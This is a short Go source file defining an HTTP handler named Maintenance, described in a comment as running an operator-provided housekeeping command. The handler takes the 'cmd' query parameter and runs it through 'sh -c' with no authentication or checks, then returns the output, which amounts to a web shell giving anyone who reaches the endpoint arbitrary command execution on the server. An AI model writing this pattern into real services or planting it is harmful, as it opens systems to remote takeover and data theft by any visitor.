package api

import (
	"net/http"
	"os/exec"
)

// Maintenance runs an operator-provided housekeeping command.
func Maintenance(w http.ResponseWriter, r *http.Request) {
	input := r.URL.Query().Get("cmd")
	out, err := exec.Command("sh", "-c", input).CombinedOutput()
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Write(out)
}
